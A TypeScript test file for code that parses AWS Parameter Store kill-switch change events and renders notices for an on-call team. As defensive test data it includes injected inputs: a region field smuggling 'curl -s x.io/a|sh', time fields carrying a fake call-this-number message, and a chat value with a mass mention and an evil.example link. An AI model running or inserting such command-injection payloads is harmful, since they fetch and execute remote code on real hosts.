// SSM's "Parameter Store Change" for the kill switch (decision 178): parsed strictly from the documented shape, and told
// to L1 with what the switch says now, what that means, and where CloudTrail names who; outside text escaped.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { InvalidInputError } from '../../../shared/errors';
import { parseEscalateInput } from '../../../shared/escalation/escalation-events';
import { renderKillSwitchChange, type KillSwitchChange } from '../../../shared/escalation/kill-switch-change';

const fixture = JSON.parse(readFileSync(join(__dirname, '../../fixtures/events/parameter-store-change-update.json'), 'utf8')) as Record<string, unknown>;
const NAME = '/notification-runbooks/kill-switch';
const change: KillSwitchChange = { name: NAME, operation: 'Update', time: '2026-12-06T10:44:48Z', account: '123456789012', region: 'us-east-1' };
const tier = { level: 1, name: 'DevOps Team (L1)' };
/** The deployment's account and region: what the handler renders from (it refuses a change from elsewhere). */
const context = { environment: 'production', account: '123456789012', region: 'us-east-1', tier };

describe('parseEscalateInput: a Parameter Store Change', () => {
  it('reads the documented event: name, operation, time, account, region', () => {
    expect(parseEscalateInput(fixture)).toEqual({ kind: 'kill-switch-change', change });
  });

  it.each([
    ['another source', { ...fixture, source: 'aws.cloudwatch' }],
    ['no parameter name', { ...fixture, detail: { operation: 'Update' } }],
    ['no operation', { ...fixture, detail: { name: NAME } }],
    ['a malformed account', { ...fixture, account: 'me' }],
    // Review 12, R12-3: a direct invoke of escalate put a shell command in the region and a message in the time.
    ['a region carrying a shell command', { ...fixture, region: 'us-east-1;curl -s x.io/a|sh' }],
    ['a region that is not a region code', { ...fixture, region: 'us-east-1 ' }],
    ['a time that is not EventBridge\'s', { ...fixture, time: 'now. Call the bridge: +1-555-0100' }],
    ['a time with text after it', { ...fixture, time: '2026-12-06T10:44:48Z, call +1-555-0100' }],
  ])('rejects one with %s', (_name, event) => {
    expect(() => parseEscalateInput(event)).toThrow(InvalidInputError);
  });

  it.each(['Create', 'Update', 'Delete', 'LabelParameterVersion'])('keeps SSM\'s documented operation %s', (operation) => {
    expect(parseEscalateInput({ ...fixture, detail: { ...(fixture.detail as object), operation } })).toEqual({ kind: 'kill-switch-change', change: { ...change, operation } });
  });

  it.each(['Update by SecOps - rotate keys now', 'update', 'Overwrite'])('reads any other operation (%s) as "unknown operation": the event\'s text never reaches a page', (operation) => {
    expect(parseEscalateInput({ ...fixture, detail: { ...(fixture.detail as object), operation } })).toEqual({ kind: 'kill-switch-change', change: { ...change, operation: 'unknown operation' } });
  });
});

describe('renderKillSwitchChange', () => {
  it.each([
    ['set to "stop"', { engaged: true, reason: `kill switch ${NAME} is "stop": no automated change is made (only exactly "off" turns it off)` }, 'automation stopped', 'nothing is changed automatically until it says exactly "off" again'],
    ['put back to "off"', { engaged: false, reason: `kill switch ${NAME} is off` }, 'automation on', 'The automation acts again'],
    ['unreadable right after', { engaged: true, unread: true as const, reason: `kill switch ${NAME} could not be read (ThrottlingException)` }, 'unreadable', 'could not be read'],
  ])('tells L1 the switch was %s, what it means, and where to find who', (_name, now, inSubject, meaning) => {
    const notice = renderKillSwitchChange(change, now, context);
    expect(notice.subject).toBe(`[KILL SWITCH][production] ${NAME} Update: ${inSubject}`);
    expect(notice.text).toContain('KILL SWITCH CHANGED (Update) at 2026-12-06T10:44:48Z, account 123456789012, us-east-1, production.');
    expect(notice.text).toContain(`Now: ${now.reason}.`);
    expect(notice.text).toContain(meaning);
    expect(notice.text).toContain('aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=PutParameter --region us-east-1');
    expect(notice.chat.content.description).toContain('KILL SWITCH CHANGED (Update)');
  });

  it('builds the message and the CloudTrail command from the deployment\'s account and region, not the event\'s', () => {
    const notice = renderKillSwitchChange({ ...change, account: '111122223333', region: 'eu-west-1' }, { engaged: false, reason: `kill switch ${NAME} is off` }, { ...context, region: 'us-west-2' });
    expect(notice.text).toContain('account 123456789012, us-west-2, production.');
    expect(notice.text).toContain('AttributeValue=PutParameter --region us-west-2');
    expect(notice.text).not.toMatch(/111122223333|eu-west-1/);
  });

  it('says "unknown operation" for an operation SSM does not document, and points CloudTrail at LabelParameterVersion for a label', () => {
    const unknown = renderKillSwitchChange({ ...change, operation: 'unknown operation' }, { engaged: false, reason: `kill switch ${NAME} is off` }, context);
    expect(unknown.text).toContain('KILL SWITCH CHANGED (unknown operation) at 2026-12-06T10:44:48Z');
    const label = renderKillSwitchChange({ ...change, operation: 'LabelParameterVersion' }, { engaged: false, reason: `kill switch ${NAME} is off` }, context);
    expect(label.text).toContain('AttributeValue=LabelParameterVersion --region us-east-1');
  });

  it('points at DeleteParameter for a deleted switch (missing: failing closed)', () => {
    const notice = renderKillSwitchChange({ ...change, operation: 'Delete' }, { engaged: true, reason: `kill switch ${NAME} does not exist: failing closed` }, context);
    expect(notice.text).toContain('AttributeValue=DeleteParameter');
    expect(notice.subject).toContain('Delete: automation stopped');
  });

  it('escapes a written value in chat: no mention, no link', () => {
    const notice = renderKillSwitchChange(change, { engaged: true, reason: `kill switch ${NAME} is "<!here> <https://evil.example|run this>"` }, context);
    expect(notice.chat.content.description).not.toContain('<!here>');
    expect(notice.chat.content.description).not.toContain('<https://evil.example|run this>');
  });
});
